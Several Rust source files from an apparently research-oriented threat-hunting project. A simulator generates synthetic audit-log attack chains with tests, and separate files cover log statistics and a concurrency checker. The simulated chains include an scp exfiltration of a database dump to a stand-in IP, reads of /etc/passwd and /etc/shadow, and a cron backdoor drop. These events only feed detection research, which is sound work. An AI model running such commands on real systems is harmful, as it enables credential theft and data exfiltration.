    host.set_tag(case, CONTEXT_STEP_BASE + 2);
    let gzip = host.spawn(shell, "/bin/gzip", "gzip -9 /tmp/db.sql");
    host.set_tag(case, 3);
    host.read(gzip, "/tmp/db.sql", 3_900_000);
    host.set_tag(case, 4);
    host.write(gzip, "/tmp/db.sql.gz", 710_000);
    host.clear_tag();
    host.exit(gzip);
    host.advance(2_000_000);

    host.set_tag(case, CONTEXT_STEP_BASE + 3);
    let scp = host.spawn(
        shell,
        "/usr/bin/scp",
        "scp /tmp/db.sql.gz ops@198.51.100.77:",
    );
    host.set_tag(case, 5);
    host.read(scp, "/tmp/db.sql.gz", 710_000);
    host.set_tag(case, 6);
    let exfil = host.connect(scp, EXFIL_IP, 22, "tcp");
    host.set_tag(case, CONTEXT_STEP_BASE + 4);
    host.send_burst(scp, &exfil, 710_000, 65_536);
    host.clear_tag();
    host.exit(scp);
    host.exit(shell);
    host.exit(sshd);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Operation;
    use crate::parser::{ParsedLog, Parser};
    use crate::rawlog::encode_lines;

    fn run(attack: fn(&mut Host)) -> ParsedLog {
        let mut h = Host::new(42);
        attack(&mut h);
        Parser::new()
            .parse_document(&encode_lines(&h.into_records()))
            .unwrap()
    }

    fn hunted_steps(log: &ParsedLog, case: &str) -> Vec<u32> {
        let mut steps: Vec<u32> = log
            .events
            .iter()
            .filter_map(|e| e.tag.as_ref())
            .filter(|t| t.case == case && t.step < CONTEXT_STEP_BASE)
            .map(|t| t.step)
            .collect();
        steps.sort_unstable();
        steps
    }

    #[test]
    fn data_leakage_has_exactly_fig2_chain() {
        let log = run(data_leakage);
        assert_eq!(
            hunted_steps(&log, CASE_DATA_LEAKAGE),
            vec![1, 2, 3, 4, 5, 6, 7, 8]
        );

        // Spot-check step 1 and step 8 against Fig. 2.
        let step1 = log
            .events
            .iter()
            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 1))
            .unwrap();
        assert_eq!(step1.op, Operation::Read);
        assert_eq!(
            log.entity(step1.subject).as_process().unwrap().exename,
            "/bin/tar"
        );
        assert_eq!(
            log.entity(step1.object).as_file().unwrap().name,
            "/etc/passwd"
        );

        let step8 = log
            .events
            .iter()
            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 8))
            .unwrap();
        assert_eq!(step8.op, Operation::Connect);
        assert_eq!(log.entity(step8.object).as_network().unwrap().dst_ip, C2_IP);
    }

    #[test]
    fn data_leakage_steps_are_temporally_ordered() {
        let log = run(data_leakage);
        let mut by_step: Vec<(u32, u64)> = log
            .events
            .iter()
            .filter_map(|e| e.tag.as_ref().map(|t| (t.step, e.start)))
            .filter(|(s, _)| *s < CONTEXT_STEP_BASE)
            .collect();
        by_step.sort_unstable();
        for w in by_step.windows(2) {
            assert!(
                w[0].1 < w[1].1,
                "step {} must precede step {}",
                w[0].0,
                w[1].0
            );
        }
    }

    #[test]
    fn password_crack_chain() {
        let log = run(password_crack);
        assert_eq!(
            hunted_steps(&log, CASE_PASSWORD_CRACK),
            vec![1, 2, 3, 4, 5, 6]
        );
        // The cracker binary runs as a process whose exename is the dropped file.
        let cracker = log
            .entities
            .iter()
            .filter_map(|e| e.as_process())
            .find(|p| p.exename == "/tmp/cracker")
            .expect("cracker process");
        assert_eq!(cracker.owner, "www-data");
        // /etc/shadow read is hunted step 5.
        let step5 = log
            .events
            .iter()
            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 5))
            .unwrap();
        assert_eq!(
            log.entity(step5.object).as_file().unwrap().name,
            "/etc/shadow"
        );
    }

    #[test]
    fn malware_drop_chain() {
        let log = run(malware_drop);
        assert_eq!(hunted_steps(&log, CASE_MALWARE_DROP), vec![1, 2, 3, 4]);
        let step4 = log
            .events
            .iter()
            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 4))
            .unwrap();
        assert_eq!(
            log.entity(step4.object).as_file().unwrap().name,
            "/etc/cron.d/backdoor"
        );
    }

    #[test]
    fn db_exfil_chain() {
        let log = run(db_exfil);
        assert_eq!(hunted_steps(&log, CASE_DB_EXFIL), vec![1, 2, 3, 4, 5, 6]);
        let step6 = log
            .events
            .iter()
            .find(|e| e.tag.as_ref().is_some_and(|t| t.step == 6))
            .unwrap();
        assert_eq!(
            log.entity(step6.object).as_network().unwrap().dst_ip,
            EXFIL_IP
        );
    }

    #[test]
    fn context_events_exist_but_are_marked() {
        let log = run(data_leakage);
        let context = log
            .events
            .iter()
            .filter(|e| e.tag.as_ref().is_some_and(|t| t.step >= CONTEXT_STEP_BASE))
            .count();
        assert!(context > 0, "penetration context must be tagged as context");
    }
}
