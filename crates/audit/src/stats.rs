//! Dataset statistics over parsed logs, used by examples and the
//! experiment harnesses (e.g. E6's before/after-CPR comparison).

use crate::event::{EventType, Operation};
use crate::parser::ParsedLog;
use std::collections::BTreeMap;
use std::fmt;

/// Summary statistics for a parsed log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LogStats {
    /// Total number of events.
    pub events: usize,
    /// Total number of entities.
    pub entities: usize,
    /// File entities.
    pub files: usize,
    /// Process entities.
    pub processes: usize,
    /// Network-connection entities.
    pub connections: usize,
    /// Events per operation.
    pub by_op: BTreeMap<Operation, usize>,
    /// Events per event type (file / process / network).
    pub by_type: BTreeMap<&'static str, usize>,
    /// Number of ground-truth attack events (any step).
    pub attack_events: usize,
    /// Scenario duration in nanoseconds (last end − first start).
    pub duration_ns: u64,
}

impl LogStats {
    /// Computes statistics over a parsed log.
    pub fn compute(log: &ParsedLog) -> LogStats {
        let (files, processes, connections) = log.entity_counts();
        let mut by_op: BTreeMap<Operation, usize> = BTreeMap::new();
        let mut by_type: BTreeMap<&'static str, usize> = BTreeMap::new();
        let mut attack_events = 0usize;
        let mut first = u64::MAX;
        let mut last = 0u64;
        for ev in &log.events {
            *by_op.entry(ev.op).or_default() += 1;
            let ty = match ev.event_type() {
                EventType::File => "file",
                EventType::Process => "process",
                EventType::Network => "network",
            };
            *by_type.entry(ty).or_default() += 1;
            if ev.is_attack() {
                attack_events += 1;
            }
            first = first.min(ev.start);
            last = last.max(ev.end);
        }
        LogStats {
            events: log.events.len(),
            entities: log.entities.len(),
            files,
            processes,
            connections,
            by_op,
            by_type,
            attack_events,
            duration_ns: last.saturating_sub(if first == u64::MAX { 0 } else { first }),
        }
    }
}

impl fmt::Display for LogStats {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "events:      {}", self.events)?;
        writeln!(
            f,
            "entities:    {} ({} files, {} processes, {} connections)",
            self.entities, self.files, self.processes, self.connections
        )?;
        writeln!(f, "attack evts: {}", self.attack_events)?;
        writeln!(f, "duration:    {:.3} s", self.duration_ns as f64 / 1e9)?;
        writeln!(f, "by type:")?;
        for (ty, n) in &self.by_type {
            writeln!(f, "  {ty:<9} {n}")?;
        }
        writeln!(f, "by op:")?;
        for (op, n) in &self.by_op {
            writeln!(f, "  {:<9} {n}", op.name())?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::scenario::ScenarioBuilder;

    #[test]
    fn stats_totals_are_consistent() {
        let sc = ScenarioBuilder::new().seed(42).target_events(2_000).build();
        let stats = LogStats::compute(&sc.log);
        assert_eq!(stats.events, sc.log.events.len());
        assert_eq!(stats.entities, sc.log.entities.len());
        assert_eq!(
            stats.files + stats.processes + stats.connections,
            stats.entities
        );
        let op_total: usize = stats.by_op.values().sum();
        assert_eq!(op_total, stats.events);
        let ty_total: usize = stats.by_type.values().sum();
        assert_eq!(ty_total, stats.events);
        assert!(stats.duration_ns > 0);
    }

    #[test]
    fn display_renders_all_sections() {
        let sc = ScenarioBuilder::new().seed(1).target_events(500).build();
        let text = LogStats::compute(&sc.log).to_string();
        assert!(text.contains("events:"));
        assert!(text.contains("by op:"));
        assert!(text.contains("read"));
    }

    #[test]
    fn empty_log_stats() {
        let stats = LogStats::compute(&ParsedLog::default());
        assert_eq!(stats.events, 0);
        assert_eq!(stats.duration_ns, 0);
    }
}
