//! Instrumented drop-ins for the `std::sync` primitives the facade
//! re-exports. Each wraps the real std type (so poison semantics and
//! guard types behave identically) and adds scheduling points around
//! every visible action: acquire, release, wait, notify, atomic store
//! and RMW. On threads outside a model run, every operation passes
//! straight through to std.
//!
//! Lock acquisition never blocks the OS thread: it is a `try_lock`
//! loop where each failure parks the thread with the scheduler as
//! blocked-on-address, and each release marks those threads runnable
//! again. Condvar waits never touch the std condvar inside a model —
//! the park *is* the wait, and the baton makes release-and-wait atomic,
//! so the scheduler sees every lost-wakeup window the real primitive
//! has (and none it does not).

use std::fmt;
use std::ops::{Deref, DerefMut};
use std::sync::{LockResult, PoisonError, TryLockError};
use std::time::Duration;

use crate::sched::{current, Status};

/// A mutex whose acquire/release are scheduling points inside a model.
#[derive(Default)]
pub struct Mutex<T> {
    inner: std::sync::Mutex<T>,
}

impl<T> Mutex<T> {
    pub const fn new(t: T) -> Mutex<T> {
        Mutex {
            inner: std::sync::Mutex::new(t),
        }
    }

    fn addr(&self) -> usize {
        self as *const Mutex<T> as usize
    }

    pub fn lock(&self) -> LockResult<MutexGuard<'_, T>> {
        match current() {
            None => wrap_guard(self, self.inner.lock()),
            Some((run, me)) => {
                run.sched_point(me);
                loop {
                    match self.inner.try_lock() {
                        Ok(g) => {
                            return Ok(MutexGuard {
                                inner: Some(g),
                                mutex: self,
                            })
                        }
                        Err(TryLockError::Poisoned(e)) => {
                            return Err(PoisonError::new(MutexGuard {
                                inner: Some(e.into_inner()),
                                mutex: self,
                            }))
                        }
                        Err(TryLockError::WouldBlock) => {
                            run.park(me, Status::BlockedLock(self.addr()));
                        }
                    }
                }
            }
        }
    }

    pub fn try_lock(&self) -> Result<MutexGuard<'_, T>, TryLockError<MutexGuard<'_, T>>> {
        if let Some((run, me)) = current() {
            run.sched_point(me);
        }
        match self.inner.try_lock() {
            Ok(g) => Ok(MutexGuard {
                inner: Some(g),
                mutex: self,
            }),
            Err(TryLockError::Poisoned(e)) => {
                Err(TryLockError::Poisoned(PoisonError::new(MutexGuard {
                    inner: Some(e.into_inner()),
                    mutex: self,
                })))
            }
            Err(TryLockError::WouldBlock) => Err(TryLockError::WouldBlock),
        }
    }

    pub fn into_inner(self) -> LockResult<T> {
        self.inner.into_inner()
    }

    pub fn get_mut(&mut self) -> LockResult<&mut T> {
        self.inner.get_mut()
    }
}

fn wrap_guard<'a, T>(
    mutex: &'a Mutex<T>,
    r: LockResult<std::sync::MutexGuard<'a, T>>,
) -> LockResult<MutexGuard<'a, T>> {
    match r {
        Ok(g) => Ok(MutexGuard {
            inner: Some(g),
            mutex,
        }),
        Err(e) => Err(PoisonError::new(MutexGuard {
            inner: Some(e.into_inner()),
            mutex,
        })),
    }
}

impl<T: fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.inner.fmt(f)
    }
}

pub struct MutexGuard<'a, T> {
    inner: Option<std::sync::MutexGuard<'a, T>>,
    mutex: &'a Mutex<T>,
}

impl<'a, T> MutexGuard<'a, T> {
    /// Releases the lock (with scheduler bookkeeping) *without* the
    /// usual post-release scheduling point, returning the mutex for
    /// re-acquisition. Used by condvar waits, where the very next step
    /// is the park itself.
    /// Takes the std guard out, skipping all scheduler bookkeeping.
    /// Used on the pass-through (unmanaged) condvar paths.
    fn take_std(mut self) -> (&'a Mutex<T>, std::sync::MutexGuard<'a, T>) {
        let mutex = self.mutex;
        let g = self.inner.take().expect("guard already released");
        (mutex, g)
    }

    fn unlock_quiet(mut self) -> &'a Mutex<T> {
        let mutex = self.mutex;
        if let Some(g) = self.inner.take() {
            drop(g);
            if let Some((run, _)) = current() {
                run.release_lock(mutex.addr());
            }
        }
        mutex
    }
}

impl<T> Deref for MutexGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        self.inner.as_ref().expect("guard already released")
    }
}

impl<T> DerefMut for MutexGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        self.inner.as_mut().expect("guard already released")
    }
}

impl<T: fmt::Debug> fmt::Debug for MutexGuard<'_, T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.deref().fmt(f)
    }
}

impl<T> Drop for MutexGuard<'_, T> {
    fn drop(&mut self) {
        if let Some(g) = self.inner.take() {
            drop(g);
            if let Some((run, me)) = current() {
                run.release_lock(self.mutex.addr());
                // Release is a visible action, so it is a scheduling
                // point — except during unwinding, where parking (and
                // the abort-teardown panic) would double-panic.
                if !std::thread::panicking() {
                    run.sched_point(me);
                }
            }
        }
    }
}

/// An rwlock whose acquires/releases are scheduling points. Blocked
/// readers and writers share the lock-address wait list; whoever the
/// scheduler grants retries its `try_` acquire.
#[derive(Default)]
pub struct RwLock<T> {
    inner: std::sync::RwLock<T>,
}

impl<T> RwLock<T> {
    pub const fn new(t: T) -> RwLock<T> {
        RwLock {
            inner: std::sync::RwLock::new(t),
        }
    }

    fn addr(&self) -> usize {
        self as *const RwLock<T> as usize
    }

    pub fn read(&self) -> LockResult<RwLockReadGuard<'_, T>> {
        match current() {
            None => match self.inner.read() {
                Ok(g) => Ok(RwLockReadGuard {
                    inner: Some(g),
                    addr: self.addr(),
                }),
                Err(e) => Err(PoisonError::new(RwLockReadGuard {
                    inner: Some(e.into_inner()),
                    addr: self.addr(),
                })),
            },
            Some((run, me)) => {
                run.sched_point(me);
                loop {
                    match self.inner.try_read() {
                        Ok(g) => {
                            return Ok(RwLockReadGuard {
                                inner: Some(g),
                                addr: self.addr(),
                            })
                        }
                        Err(TryLockError::Poisoned(e)) => {
                            return Err(PoisonError::new(RwLockReadGuard {
                                inner: Some(e.into_inner()),
                                addr: self.addr(),
                            }))
                        }
                        Err(TryLockError::WouldBlock) => {
                            run.park(me, Status::BlockedLock(self.addr()));
                        }
                    }
                }
            }
        }
    }

    pub fn write(&self) -> LockResult<RwLockWriteGuard<'_, T>> {
        match current() {
            None => match self.inner.write() {
                Ok(g) => Ok(RwLockWriteGuard {
                    inner: Some(g),
                    addr: self.addr(),
                }),
                Err(e) => Err(PoisonError::new(RwLockWriteGuard {
                    inner: Some(e.into_inner()),
                    addr: self.addr(),
                })),
            },
            Some((run, me)) => {
                run.sched_point(me);
                loop {
                    match self.inner.try_write() {
                        Ok(g) => {
                            return Ok(RwLockWriteGuard {
                                inner: Some(g),
                                addr: self.addr(),
                            })
                        }
                        Err(TryLockError::Poisoned(e)) => {
                            return Err(PoisonError::new(RwLockWriteGuard {
                                inner: Some(e.into_inner()),
                                addr: self.addr(),
                            }))
                        }
                        Err(TryLockError::WouldBlock) => {
                            run.park(me, Status::BlockedLock(self.addr()));
                        }
                    }
                }
            }
        }
    }

    pub fn into_inner(self) -> LockResult<T> {
        self.inner.into_inner()
    }

    pub fn get_mut(&mut self) -> LockResult<&mut T> {
        self.inner.get_mut()
    }
}

impl<T: fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.inner.fmt(f)
    }
}

macro_rules! rw_guard {
    ($name:ident, $std:ident) => {
        pub struct $name<'a, T> {
            inner: Option<std::sync::$std<'a, T>>,
            addr: usize,
        }

        impl<T> Deref for $name<'_, T> {
            type Target = T;
            fn deref(&self) -> &T {
                self.inner.as_ref().expect("guard already released")
            }
        }

        impl<T: fmt::Debug> fmt::Debug for $name<'_, T> {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                self.deref().fmt(f)
            }
        }

        impl<T> Drop for $name<'_, T> {
            fn drop(&mut self) {
                if let Some(g) = self.inner.take() {
                    drop(g);
                    if let Some((run, me)) = current() {
                        run.release_lock(self.addr);
                        if !std::thread::panicking() {
                            run.sched_point(me);
                        }
                    }
                }
            }
        }
    };
}

rw_guard!(RwLockReadGuard, RwLockReadGuard);
rw_guard!(RwLockWriteGuard, RwLockWriteGuard);

impl<T> DerefMut for RwLockWriteGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        self.inner.as_mut().expect("guard already released")
    }
}

/// Result of an instrumented `wait_timeout`. Inside a model "the
/// timeout fired" means the scheduler woke the waiter at quiescence
/// instead of through a notify.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WaitTimeoutResult(bool);

impl WaitTimeoutResult {
    pub fn timed_out(&self) -> bool {
        self.0
    }
}

/// A condvar whose waits are scheduler parks and whose notifies are
/// scheduling points. Model time is abstract: a timed wait never
/// consults the clock — it parks as a *timed* waiter, which the
/// controller may wake at quiescence (that wake is the timeout).
#[derive(Default)]
pub struct Condvar {
    inner: std::sync::Condvar,
}

impl Condvar {
    pub const fn new() -> Condvar {
        Condvar {
            inner: std::sync::Condvar::new(),
        }
    }

    fn addr(&self) -> usize {
        self as *const Condvar as usize
    }

    pub fn wait<'a, T>(&self, guard: MutexGuard<'a, T>) -> LockResult<MutexGuard<'a, T>> {
        match current() {
            None => {
                // Not inside a model: fall through to the std condvar.
                let (mutex, g) = guard.take_std();
                wrap_guard(mutex, self.inner.wait(g))
            }
            Some((run, me)) => {
                let mutex = guard.unlock_quiet();
                run.park(
                    me,
                    Status::Waiting {
                        cv: self.addr(),
                        timed: false,
                    },
                );
                mutex.lock()
            }
        }
    }

    pub fn wait_timeout<'a, T>(
        &self,
        guard: MutexGuard<'a, T>,
        dur: Duration,
    ) -> LockResult<(MutexGuard<'a, T>, WaitTimeoutResult)> {
        match current() {
            None => {
                let (mutex, g) = guard.take_std();
                match self.inner.wait_timeout(g, dur) {
                    Ok((g, t)) => Ok((
                        MutexGuard {
                            inner: Some(g),
                            mutex,
                        },
                        WaitTimeoutResult(t.timed_out()),
                    )),
                    Err(e) => {
                        let (g, t) = e.into_inner();
                        Err(PoisonError::new((
                            MutexGuard {
                                inner: Some(g),
                                mutex,
                            },
                            WaitTimeoutResult(t.timed_out()),
                        )))
                    }
                }
            }
            Some((run, me)) => {
                let mutex = guard.unlock_quiet();
                let timed_out = run.park(
                    me,
                    Status::Waiting {
                        cv: self.addr(),
                        timed: true,
                    },
                );
                match mutex.lock() {
                    Ok(g) => Ok((g, WaitTimeoutResult(timed_out))),
                    Err(e) => Err(PoisonError::new((
                        e.into_inner(),
                        WaitTimeoutResult(timed_out),
                    ))),
                }
            }
        }
    }

    pub fn notify_one(&self) {
        if let Some((run, me)) = current() {
            run.sched_point(me);
            run.notify_cv(self.addr(), false);
        }
        self.inner.notify_one();
    }

    pub fn notify_all(&self) {
        if let Some((run, me)) = current() {
            run.sched_point(me);
            run.notify_cv(self.addr(), true);
        }
        self.inner.notify_all();
    }
}

impl fmt::Debug for Condvar {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad("Condvar { .. }")
    }
}

/// Instrumented atomics: loads pass through (they cannot block and
/// treating every load as a branching point would explode the schedule
/// space), while stores and read-modify-writes — the actions other
/// threads can race against — are scheduling points.
pub mod atomic {
    pub use std::sync::atomic::{fence, Ordering};

    use crate::sched::current;

    fn yield_point() {
        if let Some((run, me)) = current() {
            run.sched_point(me);
        }
    }

    macro_rules! int_atomic {
        ($name:ident, $prim:ty) => {
            #[derive(Debug, Default)]
            pub struct $name {
                inner: std::sync::atomic::$name,
            }

            impl $name {
                pub const fn new(v: $prim) -> $name {
                    $name {
                        inner: std::sync::atomic::$name::new(v),
                    }
                }

                pub fn load(&self, order: Ordering) -> $prim {
                    self.inner.load(order)
                }

                pub fn store(&self, val: $prim, order: Ordering) {
                    yield_point();
                    self.inner.store(val, order);
                }

                pub fn swap(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.swap(val, order)
                }

                pub fn fetch_add(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.fetch_add(val, order)
                }

                pub fn fetch_sub(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.fetch_sub(val, order)
                }

                pub fn fetch_max(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.fetch_max(val, order)
                }

                pub fn fetch_min(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.fetch_min(val, order)
                }

                pub fn fetch_and(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.fetch_and(val, order)
                }

                pub fn fetch_or(&self, val: $prim, order: Ordering) -> $prim {
                    yield_point();
                    self.inner.fetch_or(val, order)
                }

                #[allow(clippy::missing_errors_doc)]
                pub fn compare_exchange(
                    &self,
                    cur: $prim,
                    new: $prim,
                    ok: Ordering,
                    err: Ordering,
                ) -> Result<$prim, $prim> {
                    yield_point();
                    self.inner.compare_exchange(cur, new, ok, err)
                }

                #[allow(clippy::missing_errors_doc)]
                pub fn compare_exchange_weak(
                    &self,
                    cur: $prim,
                    new: $prim,
                    ok: Ordering,
                    err: Ordering,
                ) -> Result<$prim, $prim> {
                    yield_point();
                    self.inner.compare_exchange_weak(cur, new, ok, err)
                }

                pub fn into_inner(self) -> $prim {
                    self.inner.into_inner()
                }

                pub fn get_mut(&mut self) -> &mut $prim {
                    self.inner.get_mut()
                }
            }
        };
    }

    int_atomic!(AtomicU8, u8);
    int_atomic!(AtomicU32, u32);
    int_atomic!(AtomicU64, u64);
    int_atomic!(AtomicUsize, usize);
    int_atomic!(AtomicI32, i32);
    int_atomic!(AtomicI64, i64);

    #[derive(Debug, Default)]
    pub struct AtomicBool {
        inner: std::sync::atomic::AtomicBool,
    }

    impl AtomicBool {
        pub const fn new(v: bool) -> AtomicBool {
            AtomicBool {
                inner: std::sync::atomic::AtomicBool::new(v),
            }
        }

        pub fn load(&self, order: Ordering) -> bool {
            self.inner.load(order)
        }

        pub fn store(&self, val: bool, order: Ordering) {
            yield_point();
            self.inner.store(val, order);
        }

        pub fn swap(&self, val: bool, order: Ordering) -> bool {
            yield_point();
            self.inner.swap(val, order)
        }

        pub fn fetch_or(&self, val: bool, order: Ordering) -> bool {
            yield_point();
            self.inner.fetch_or(val, order)
        }

        pub fn fetch_and(&self, val: bool, order: Ordering) -> bool {
            yield_point();
            self.inner.fetch_and(val, order)
        }

        #[allow(clippy::missing_errors_doc)]
        pub fn compare_exchange(
            &self,
            cur: bool,
            new: bool,
            ok: Ordering,
            err: Ordering,
        ) -> Result<bool, bool> {
            yield_point();
            self.inner.compare_exchange(cur, new, ok, err)
        }

        pub fn into_inner(self) -> bool {
            self.inner.into_inner()
        }

        pub fn get_mut(&mut self) -> &mut bool {
            self.inner.get_mut()
        }
    }
}
