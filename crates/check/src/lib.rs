//! # threatraptor-check — deterministic interleaving checker
//!
//! A mini-loom: small closed concurrency models run under a controlled
//! scheduler that explores thread interleavings exhaustively up to a
//! preemption bound, instead of hoping the OS scheduler stumbles into
//! the bad one. Production code participates through the
//! `threatraptor-sync` facade — built normally it re-exports
//! `std::sync`; built with `RUSTFLAGS="--cfg threatraptor_check"` it
//! swaps in this crate's instrumented primitives ([`sync`], [`thread`])
//! whose every acquire/release/wait/notify/atomic-write is a
//! scheduling point.
//!
//! ## How exploration works
//!
//! [`model`] runs the closure once per schedule. Threads are real OS
//! threads, but a baton ensures only one runs at a time; at each
//! scheduling point the controller picks which runnable thread
//! continues. Branching choices are recorded, and after each iteration
//! the explorer backtracks to the deepest decision with an untried
//! alternative — bounded DFS over schedules, where switching away from
//! a still-runnable thread costs one *preemption* and at most
//! [`CheckConfig::preemption_bound`] preemptions are spent per
//! schedule (most real concurrency bugs need ≤ 2; the bound keeps the
//! space polynomial instead of exponential).
//!
//! Detected violations: assertion/panic in any model thread, deadlock
//! (no runnable thread and no timed waiter), and livelock via the
//! per-iteration step cap. Condvar timeouts are modelled as quiescence
//! wakes — a timed waiter can be woken only when nothing else can run,
//! and [`quiescent_wakes`] lets a model assert its wakeup protocol
//! never *needed* the timeout backstop (turning missed-wakeup liveness
//! bugs into hard failures).
//!
//! Without the cfg, [`model`] degrades to a single smoke run on real
//! threads, so the checked models double as plain concurrency tests in
//! tier-1.

mod sched;
pub mod sync;
pub mod thread;

use std::panic::{self, AssertUnwindSafe};
use std::sync::Arc;

/// Exploration budget and identification for one model.
#[derive(Debug, Clone)]
pub struct CheckConfig {
    /// Name used in reports and failure messages.
    pub name: &'static str,
    /// Maximum context switches away from a still-runnable thread per
    /// schedule.
    pub preemption_bound: usize,
    /// Hard cap on explored interleavings (the space may be larger).
    pub max_iterations: u64,
    /// Per-iteration scheduling-point cap; exceeding it is reported as
    /// a livelock violation.
    pub max_steps: u64,
}

impl Default for CheckConfig {
    fn default() -> CheckConfig {
        CheckConfig {
            name: "model",
            preemption_bound: 2,
            max_iterations: 20_000,
            max_steps: 100_000,
        }
    }
}

/// A schedule on which the model failed.
#[derive(Debug, Clone)]
pub struct Violation {
    /// Panic message, deadlock description, or step-cap report.
    pub message: String,
    /// The branching choices (thread ids) that led to the failure.
    pub schedule: Vec<usize>,
    /// Which iteration hit it (1-based).
    pub iteration: u64,
}

/// What one [`model`] call explored.
#[derive(Debug, Clone)]
pub struct Report {
    pub name: &'static str,
    /// Distinct interleavings completed (or attempted, for the failing
    /// one).
    pub iterations: u64,
    /// True when the whole preemption-bounded space was explored.
    pub exhausted: bool,
    /// Iterations where replay no longer matched the recorded prefix
    /// (a sign of nondeterminism in the model itself).
    pub divergences: u64,
    pub violation: Option<Violation>,
}

impl Report {
    /// Asserts the model held on every explored schedule, and — under
    /// `cfg(threatraptor_check)` only — that exploration was deep
    /// enough to mean something: either the whole preemption-bounded
    /// space was exhausted, or at least `min_interleavings` schedules
    /// ran.
    ///
    /// # Panics
    ///
    /// On any recorded violation, or (instrumented builds) when
    /// exploration stopped early without exhausting the space.
    #[track_caller]
    pub fn assert_ok(&self, min_interleavings: u64) {
        if let Some(v) = &self.violation {
            panic!(
                "model '{}' violated on iteration {} (schedule {:?}): {}",
                self.name, v.iteration, v.schedule, v.message
            );
        }
        if cfg!(threatraptor_check) {
            assert!(
                self.exhausted || self.iterations >= min_interleavings,
                "model '{}' explored only {} interleavings (wanted >= {} or exhaustion)",
                self.name,
                self.iterations,
                min_interleavings,
            );
        }
    }
}

/// Quiescence (timeout) wakes taken so far in the current iteration,
/// `0` outside a model run. See the crate docs for why a correct
/// wakeup protocol asserts this stays zero.
pub fn quiescent_wakes() -> u64 {
    sched::current().map_or(0, |(run, _)| run.quiescent_wakes())
}

/// Explores `f` under the controlled scheduler (instrumented builds)
/// or runs it once on real threads (normal builds). `f` must be a
/// *closed* model: every thread it spawns must be joined or otherwise
/// finished by the time it returns, and all cross-thread state must go
/// through the `threatraptor-sync` facade to be visible to the
/// scheduler.
pub fn model<F>(cfg: CheckConfig, f: F) -> Report
where
    F: Fn() + Send + Sync + 'static,
{
    model_impl(cfg, Arc::new(f))
}

#[cfg(not(threatraptor_check))]
fn model_impl(cfg: CheckConfig, f: Arc<dyn Fn() + Send + Sync>) -> Report {
    let violation = panic::catch_unwind(AssertUnwindSafe(|| f()))
        .err()
        .map(|p| Violation {
            message: sched::panic_message(p.as_ref()),
            schedule: Vec::new(),
            iteration: 1,
        });
    Report {
        name: cfg.name,
        iterations: 1,
        exhausted: false,
        divergences: 0,
        violation,
    }
}

#[cfg(threatraptor_check)]
fn model_impl(cfg: CheckConfig, f: Arc<dyn Fn() + Send + Sync + 'static>) -> Report {
    let mut schedule: Vec<usize> = Vec::new();
    let mut iterations = 0u64;
    let mut divergences = 0u64;
    loop {
        let outcome = run_iteration(&f, &schedule, &cfg);
        iterations += 1;
        if outcome.diverged {
            divergences += 1;
        }
        if let Some(message) = outcome.violation {
            return Report {
                name: cfg.name,
                iterations,
                exhausted: false,
                divergences,
                violation: Some(Violation {
                    message,
                    schedule: outcome.schedule_taken,
                    iteration: iterations,
                }),
            };
        }
        if iterations >= cfg.max_iterations {
            return Report {
                name: cfg.name,
                iterations,
                exhausted: false,
                divergences,
                violation: None,
            };
        }
        match sched::next_schedule(&outcome.decisions, cfg.preemption_bound) {
            Some(s) => schedule = s,
            None => {
                return Report {
                    name: cfg.name,
                    iterations,
                    exhausted: true,
                    divergences,
                    violation: None,
                }
            }
        }
    }
}

#[cfg(threatraptor_check)]
fn run_iteration(
    f: &Arc<dyn Fn() + Send + Sync + 'static>,
    schedule: &[usize],
    cfg: &CheckConfig,
) -> sched::IterationOutcome {
    let run = Arc::new(sched::Run::new());
    let root_tid = run.register();
    let child_run = run.clone();
    let f = f.clone();
    let root = std::thread::Builder::new()
        .name(format!("check-{}", cfg.name))
        .spawn(move || {
            sched::set_current(Some((child_run.clone(), root_tid)));
            match panic::catch_unwind(AssertUnwindSafe(|| {
                child_run.wait_for_grant(root_tid);
                f()
            })) {
                Ok(()) => child_run.finish(root_tid, None),
                Err(p) => {
                    let msg = if p.is::<sched::AbortIteration>() {
                        None
                    } else {
                        Some(sched::panic_message(p.as_ref()))
                    };
                    child_run.finish(root_tid, msg);
                }
            }
        })
        .expect("failed to spawn model root thread");
    let outcome = sched::controller_loop(&run, schedule, cfg.max_steps);
    root.join().expect("model root thread never unwinds");
    outcome
}
