//! The controlled scheduler: one baton, many parked threads.
//!
//! Model threads are real OS threads, but only one runs at a time. At
//! every scheduling point (lock acquire/release, condvar wait/notify,
//! atomic store/RMW, spawn/join/yield) the running thread parks and
//! hands the baton to the controller, which picks the next thread to
//! grant. Recording which candidates were available at each branching
//! decision lets the explorer enumerate schedules: backtrack to the
//! deepest decision with an untried alternative (within the preemption
//! bound), replay the prefix, and diverge there.
//!
//! The baton makes multi-step bookkeeping trivially atomic: a thread
//! that holds the baton can update several pieces of scheduler state in
//! sequence (e.g. condvar wait = mark-waiting, release the mutex, park)
//! without any other model thread observing an intermediate state —
//! the classic lost-wakeup window between unlock and wait simply cannot
//! be preempted.

use std::cell::RefCell;
